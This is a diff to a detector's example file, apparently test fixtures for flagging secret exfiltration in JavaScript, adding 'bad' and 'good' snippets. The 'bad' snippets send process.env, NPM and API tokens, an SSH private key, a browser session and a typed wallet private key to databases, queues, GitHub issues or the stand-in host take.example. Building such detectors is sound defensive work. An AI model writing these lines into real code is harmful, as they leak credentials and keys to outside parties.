@@ -107,8 +107,97 @@ export const examples: DetectorExamples = {
       why: 'a decoded text is run',
       attributes: { source: 'decoded', sink: 'code.evaluate', to: 'eval' },
     },
+    {
+      code: "import { DynamoDBClient, PutItemCommand } from '@aws-sdk/client-dynamodb'; const c = new DynamoDBClient({}); await c.send(new PutItemCommand({ TableName: 't', Item: { all: { S: JSON.stringify(process.env) } } }));",
+      why: 'the environment is put into a table',
+      attributes: { source: 'environment', sink: 'network.body', to: 'database' },
+    },
+    {
+      code: "import { SFNClient, StartSyncExecutionCommand } from '@aws-sdk/client-sfn'; await c.send(new StartSyncExecutionCommand({ input: JSON.stringify(process.env) }));",
+      why: 'a command that no table names',
+      attributes: { source: 'environment', sink: 'network.body', to: 'aws' },
+    },
+    {
+      code: 'sns.publish({ TopicArn: arn, Message: process.env.NPM_TOKEN }).promise();',
+      why: 'a topic, by the older client',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'topic' },
+    },
+    {
+      code: "await supabase.from('log').insert([{ env: process.env }]);",
+      why: 'a row of a table',
+      attributes: { source: 'environment', sink: 'network.body', to: 'database' },
+    },
+    {
+      code: "await bucket.file('x.txt').save(JSON.stringify(process.env));",
+      why: 'a file of a bucket',
+      attributes: { source: 'environment', sink: 'network.body', to: 'bucket' },
+    },
+    {
+      code: "await client.query('INSERT INTO log (all) VALUES ($1)', [JSON.stringify(process.env)]);",
+      why: 'a row of a database',
+      attributes: { source: 'environment', sink: 'network.body', to: 'database' },
+    },
+    {
+      code: "await octokit.request('POST /repos/{owner}/{repo}/issues', { owner, repo, title: 'x', body: JSON.stringify(process.env) });",
+      why: 'an issue, by the general request of the client',
+      attributes: { source: 'environment', sink: 'network.body', to: 'github' },
+    },
+    {
+      code: "import winston from 'winston'; const log = winston.createLogger({ transports: [new winston.transports.Http({ host: 'logs.take.example' })] }); log.info('start', process.env);",
+      why: 'a line of a log that is kept elsewhere',
+      attributes: { source: 'environment', sink: 'network.body', to: 'logs.take.example' },
+    },
+    {
+      code: "import pg from 'pg'; const copy = new pg.Pool({ host: 'db.take.example' }); copy.query(text, [process.env.API_TOKEN]);",
+      why: 'a database whose host stands in the code',
+      attributes: { source: 'environment:API_TOKEN', sink: 'network.body', to: 'db.take.example' },
+    },
+    {
+      code: "import https from 'node:https'; import fs from 'node:fs'; import os from 'node:os'; const up = https.request('https://take.example/f', { method: 'PUT' }); fs.createReadStream(os.homedir() + '/.ssh/id_rsa').pipe(up);",
+      why: 'a key of SSH is piped into a request',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "fetch('https://take.example', { method: 'POST', body: localStorage.getItem('session') });",
+      why: 'what the browser keeps for the page',
+      attributes: { source: 'browser-storage', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import readline from 'node:readline/promises'; const lines = readline.createInterface({ input: process.stdin }); fetch('https://take.example', { method: 'POST', body: await lines.question('Your name? ') });",
+      why: 'what somebody types at a terminal',
+      attributes: { source: 'typed-text', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import readline from 'node:readline'; const lines = readline.createInterface({ input: process.stdin }); lines.question('Enter your private key: ', (typed) => { fetch('https://take.example', { method: 'POST', body: typed }); });",
+      why: 'a question for what opens a wallet, with a callback',
+      attributes: { source: 'secret-argument', sink: 'network.body', to: 'take.example' },
+    },
   ],
   good: [
+    {
+      code: "await octokit.request('POST /repos/{owner}/{repo}/issues', { owner, repo, title, headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } });",
+      why: 'a token that signs a request',
+    },
+    {
+      code: "await octokit.request('GET /repos/{owner}', { owner: process.env.API_TOKEN });",
+      why: 'a request that only reads',
+    },
+    {
+      code: "import pg from 'pg'; const pool = new pg.Pool({ host: 'localhost' }); pool.query(text, [process.env.API_TOKEN]);",
+      why: 'a database of this machine',
+    },
+    {
+      code: "import winston from 'winston'; const log = winston.createLogger({ transports: [new winston.transports.File({ filename: 'a.log' })] }); log.info('start', process.env);",
+      why: 'a log in a file',
+    },
+    {
+      code: "await client.query('SELECT * FROM t WHERE k = $1', [process.env.API_TOKEN]);",
+      why: 'a question to a database',
+    },
+    {
+      code: "import fs from 'node:fs'; fs.createReadStream('.npmrc').pipe(fs.createWriteStream('copy'));",
+      why: 'a file that is piped into a file',
+    },
     {
       code: "transport.sendMail({ from: process.env.MAIL_FROM, to: input.to, cc: input.cc, subject: 's' });",
       why: 'the caller chooses who gets the mail, a setting who sent it',
